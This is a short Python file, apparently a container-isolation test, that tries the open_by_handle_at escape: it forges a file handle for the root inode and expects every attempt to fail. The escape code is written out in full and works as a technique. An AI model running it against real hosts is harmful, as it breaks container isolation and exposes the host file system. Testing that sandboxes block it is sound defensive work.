"""The classic way out of a container: a handle names an inode of the whole file system, whatever is mounted."""
import ctypes
import os

from attempt import call, none_works


def by_handle(path):
    handle = (ctypes.c_char * 136)()
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    folder = os.open("/", os.O_RDONLY)
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    return os.readlink("/proc/self/fd/%d" % call("open_by_handle_at", folder, handle, os.O_RDONLY))


def root_inode():
    handle = (ctypes.c_char * 136)()
    ctypes.c_uint.from_buffer(handle).value = 8
    ctypes.c_int.from_buffer(handle, 4).value = 1
    ctypes.c_uint.from_buffer(handle, 8).value = 2
    return call("open_by_handle_at", os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY)


none_works([("of /usr", lambda: by_handle("/usr")), ("of inode 2", root_inode)])
